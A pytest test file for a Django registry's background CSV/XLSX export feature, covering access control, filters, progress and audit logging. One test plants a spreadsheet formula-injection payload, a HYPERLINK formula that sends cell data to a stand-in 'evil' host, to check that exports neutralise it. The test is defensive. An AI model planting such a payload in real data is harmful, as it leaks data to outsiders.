"""The registry's exports, built in the background as documents (finding 11 of issue 14)."""

import csv
import datetime
import io

import pytest
from django.conf import settings
from django.test import TestCase
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from members import exports
from members.models import FamilyCategory, Household, Person
from reports import building
from reports.actions import request_registry_export
from reports.documents import exports as export_documents
from reports.models import Document
from tests.factories import make_group
from tests.factories.members import head, make_household
from villages.models import SensitiveAccess


def build_export(*, user, fmt="csv", filters=None) -> Document:
    with TestCase.captureOnCommitCallbacks(execute=True):
        document = request_registry_export(requested_by=user, fmt=fmt, filters=filters or {})
    document.refresh_from_db()
    return document


def rows_of(document) -> list[list]:
    with document.file.open("rb") as file:
        content = file.read()
    if document.file_format == "xlsx":
        sheet = load_workbook(io.BytesIO(content)).worksheets[0]
        return [list(row) for row in sheet.iter_rows(values_only=True)]
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_specialists_export_is_built_with_their_village_only(specialist, village, other_village, fmt):
    household = make_household(village=village, by=specialist)
    make_household(village=other_village, number="9001")

    document = build_export(user=specialist, fmt=fmt)

    assert document.status == Document.Status.DONE and document.progress == 100
    assert document.kind == "registry_export" and document.village == village
    assert document.file.name.endswith(f".{fmt}") and document.download_name.endswith(f".{fmt}")
    rows = rows_of(document)
    assert len(rows[0]) == len(exports.columns(sensitive=True)) and len(rows) == 3
    cells = {str(cell) for row in rows for cell in row}
    assert head(household).id_number in cells and "9001" not in cells
    assert SensitiveAccess.objects.get(action="export").count == 2


def test_the_office_exports_the_whole_town_and_downloads_it(client, town_office, village, other_village):
    make_household(village=village, number="1001")
    make_household(village=other_village, number="9001")
    client.force_login(town_office)

    page = client.get(reverse("reports:registry_export", args=["xlsx"]))
    assert page.status_code == 200
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = client.post(reverse("reports:registry_export", args=["xlsx"]))

    document = Document.objects.get(kind="registry_export")
    assert response.status_code == 302 and response["Location"] == reverse("reports:document_detail",
                                                                           args=[document.pk])
    assert document.village is None and document.status == Document.Status.DONE
    detail = client.get(response["Location"])
    assert 'id="download"' in detail.content.decode()
    download = client.get(reverse("reports:document_download", args=[document.pk]))
    assert download.status_code == 200 and download["Content-Type"].startswith("application/vnd.openxml")
    sheet = load_workbook(io.BytesIO(b"".join(download.streaming_content))).worksheets[0]
    numbers = {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert numbers == {"1001", "9001"}
    logged = SensitiveAccess.objects.filter(user=town_office, record_id=document.pk)
    assert logged.count() == 1 and logged.get().action == "export"


def test_the_export_keeps_the_household_lists_filters(specialist, village):
    group = make_group(village=village, number=2)
    make_household(village=village, number="1001")
    make_household(village=village, number="1002", group=group)

    document = build_export(user=specialist, filters={"group": str(group.pk)})

    assert document.params["filters"]["group"] == group.pk
    assert [row[0] for row in rows_of(document)[1:]] == ["1002", "1002"]


def test_another_village_never_sees_the_export(client, specialist, village, other_village, town):
    from tests.factories import make_user

    make_household(village=village)
    document = build_export(user=specialist)
    neighbour = make_user(username="neighbour", role="specialist", village=other_village)
    client.force_login(neighbour)

    for name in ("document_detail", "document_download", "document_status"):
        assert client.get(reverse(f"reports:{name}", args=[document.pk])).status_code == 404
    assert not SensitiveAccess.objects.filter(user=neighbour).exists()


def test_an_export_is_its_askers_own(client, specialist, town_office, leader, village):
    make_household(village=village)
    document = build_export(user=specialist)
    for other in (town_office, leader):
        client.force_login(other)
        assert client.get(reverse("reports:document_download", args=[document.pk])).status_code == 404


def test_a_group_of_another_village_is_refused_with_a_message(client, specialist, other_village):
    group = make_group(village=other_village, number=1)
    client.force_login(specialist)
    url = reverse("reports:registry_export", args=["csv"]) + f"?group={group.pk}"

    assert client.get(url).status_code == 400
    response = client.post(url)

    assert response.status_code == 400 and "errorlist" in response.content.decode()
    assert not Document.objects.exists()
    assert client.get(reverse("reports:registry_export", args=["pdf"])).status_code == 404


def test_the_leadership_and_anonymous_get_no_export(client, leader, village):
    assert client.get(reverse("reports:registry_export", args=["csv"])).status_code == 302
    client.force_login(leader)
    assert client.post(reverse("reports:registry_export", args=["csv"])).status_code == 404
    assert not Document.objects.exists()


def test_the_api_answers_202_with_the_document(client, specialist, village, other_village):
    from rest_framework.test import APIClient

    make_household(village=village)
    api = APIClient()
    api.force_authenticate(specialist)
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = api.post("/api/v1/exports/people/", {"format": "csv"}, format="json")
    assert response.status_code == 202, response.content
    assert response.json()["kind"] == "registry_export" and response.json()["file_format"] == "csv"
    document = api.get(f"/api/v1/documents/{response.json()['id']}/").json()
    assert document["status"] == "done" and document["download_url"]

    group = make_group(village=other_village, number=1)
    for bad in ({"format": "pdf"}, {"format": "csv", "group": group.pk}, {"format": "csv", "status": "nonsense"},
                {"format": "csv", "group": 10**30}):
        assert api.post("/api/v1/exports/people/", bad, format="json").status_code == 400, bad


def test_an_export_is_not_asked_for_as_a_plain_document(specialist, village):
    from django.core.exceptions import ValidationError

    from reports.actions import request_document

    with pytest.raises(ValidationError):
        request_document(kind="registry_export", requested_by=specialist, village=village)


def test_progress_is_reported_as_rows_are_written(specialist, village, monkeypatch):
    for number in range(3):
        make_household(village=village, number=f"10{number}")
    monkeypatch.setattr(export_documents, "PROGRESS_EVERY", 2)
    seen = []
    original = building._set_progress
    monkeypatch.setattr(building, "_set_progress", lambda pk, attempt, percent: (seen.append(percent),
                                                                                   original(pk, attempt, percent)))

    document = build_export(user=specialist)

    assert seen and seen == sorted(seen) and 5 < seen[-1] <= 95
    assert document.progress == 100


def test_the_writers_consume_an_iterator_and_never_a_list():
    """Rows come one at a time from a generator: the writer takes each as it comes (bounded memory)."""
    produced = []

    def rows():
        for number in range(5000):
            produced.append(number)
            yield [f"name {number}", "=1+1"]
            # the writer has not read ahead: only the rows it has written were produced
            assert len(produced) == number + 1

    class Output(io.BytesIO):
        pass

    for writer in (exports.stream_csv, exports.stream_xlsx):
        produced.clear()
        seen = []
        writer(["name", "note"], rows(), Output(), on_row=seen.append)
        assert len(produced) == 5000 and seen[-1] == 5000


def test_the_family_category_column_shows_the_households_current_categories_only(specialist, village):
    both, none = make_household(village=village, number="101"), make_household(village=village, number="102")
    FamilyCategory.objects.filter(household=none).delete()
    FamilyCategory.objects.create(household=both, category="one_child", holds_from=datetime.date(2020, 1, 1))
    FamilyCategory.objects.create(household=both, category="multi_child", holds_from=datetime.date(2010, 1, 1),
                                  holds_until=datetime.date(2015, 1, 1))

    rows = rows_of(build_export(user=specialist))

    column = [key for key, _label in exports.columns(sensitive=True)].index("categories")
    with translation.override(settings.LANGUAGE_CODE):
        shown = "、".join(str(FamilyCategory.Category(code).label) for code in ("one_child", "childless_couple"))
    assert {row[0]: row[column] for row in rows[1:]} == {"101": shown, "102": ""}


def test_an_xlsx_past_the_rows_a_sheet_holds_goes_on_in_another_sheet_under_the_header(monkeypatch):
    monkeypatch.setattr(exports, "XLSX_ROWS_PER_SHEET", 3)
    output = io.BytesIO()

    with translation.override("en"):
        exports.stream_xlsx(["name"], ([f"person {number}"] for number in range(5)), output)

    sheets = load_workbook(output).worksheets
    assert [[row[0] for row in sheet.iter_rows(values_only=True)] for sheet in sheets] == [
        ["name", "person 0", "person 1"], ["name", "person 2", "person 3"], ["name", "person 4"]]
    assert [sheet.title for sheet in sheets] == ["people", "people 2", "people 3"]


def test_the_household_list_links_to_the_exports(client, specialist, village):
    client.force_login(specialist)
    html = client.get(reverse("members:households"), {"q": "王"}).content.decode()
    assert reverse("reports:registry_export", args=["csv"]) + "?q=%E7%8E%8B" in html


def test_an_export_asked_again_while_queued_is_the_same_document(specialist, village):
    first = request_registry_export(requested_by=specialist, fmt="csv", filters={})
    again = request_registry_export(requested_by=specialist, fmt="csv", filters={})
    other = request_registry_export(requested_by=specialist, fmt="xlsx", filters={})
    assert first.pk == again.pk != other.pk


def test_a_formula_in_a_name_stays_text(specialist, village):
    household = make_household(village=village, by=specialist)
    Person.objects.filter(household=household).update(name='=HYPERLINK("http://evil/"&A1,"x")')
    Household.objects.filter(pk=household.pk).update(address="@SUM(1)")
    document = build_export(user=specialist, fmt="xlsx")
    with document.file.open("rb") as file:
        sheet = load_workbook(io.BytesIO(file.read())).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'@SUM(1)" in {cell.value for cell in cells}


def test_a_members_export_has_no_sensitive_columns_and_its_download_is_not_logged(client, member, village):
    make_household(village=village, group=member.group, number="1001")
    make_household(village=village, number="1002")

    document = build_export(user=member)

    assert document.status == Document.Status.DONE and document.params["sensitive"] is False
    rows = rows_of(document)
    assert len(rows[0]) == len(exports.columns(sensitive=False)) and {row[0] for row in rows[1:]} == {"1001"}
    client.force_login(member)
    assert client.get(reverse("reports:document_download", args=[document.pk])).status_code == 200
    assert not SensitiveAccess.objects.exists()


def test_the_document_api_refuses_an_export_kind(specialist, village):
    from rest_framework.test import APIClient

    api = APIClient()
    api.force_authenticate(specialist)
    response = api.post("/api/v1/documents/", {"kind": "registry_export", "village": village.pk}, format="json")
    assert response.status_code == 400 and not Document.objects.exists()


def test_a_failed_export_is_built_again_by_its_asker_only(client, specialist, town_office, village, monkeypatch):
    from reports.actions import retry_document

    make_household(village=village)
    monkeypatch.setattr(exports, "registry_export", lambda **kwargs: 1 / 0)
    document = build_export(user=specialist)
    assert document.status == Document.Status.FAILED and "ZeroDivisionError" in document.error
    monkeypatch.undo()

    from django.core.exceptions import PermissionDenied
    with pytest.raises(PermissionDenied):
        retry_document(document=document, by=town_office)
    with TestCase.captureOnCommitCallbacks(execute=True):
        retry_document(document=document, by=specialist)
    document.refresh_from_db()
    assert document.status == Document.Status.DONE and document.attempts == 2
